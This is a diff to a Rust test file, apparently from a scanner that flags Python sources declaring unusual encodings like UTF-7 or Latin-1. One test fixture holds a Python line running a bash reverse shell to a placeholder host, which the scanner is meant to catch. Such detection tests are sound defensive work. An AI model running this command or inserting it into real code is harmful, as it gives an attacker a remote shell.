@@ -264,6 +264,7 @@ fn a_source_that_names_its_encoding_is_read_in_it() {
     for line in [
         "# coding: utf-7\n",
         "# -*- coding: UTF_7 -*-\n",
+        "# coding: utf--7\n",
         "#!/usr/bin/env python3\r\n# vim: fileencoding=u7\r\n",
     ] {
         for name in ["main.py", "main", "main.txt"] {
@@ -271,7 +272,7 @@ fn a_source_that_names_its_encoding_is_read_in_it() {
             assert!(has(&report, RULE), "{line} {name}: {}", listed(&report));
         }
     }
-    // In Latin-1 `\xaa` is a letter that Python takes for an `a`.
+    // Bytes that are no UTF-8 do not end a text.
     let exec = "# coding: latin-1\nimport os\nos.system('bash -i >& /dev/tcp/collector.invalid/4444 0>&1') # \u{e9}\n";
     let latin: Vec<u8> = exec.chars().map(|c| u8::try_from(u32::from(c)).unwrap()).collect();
     assert!(has(&scan([("main.py", latin)]), RULE));
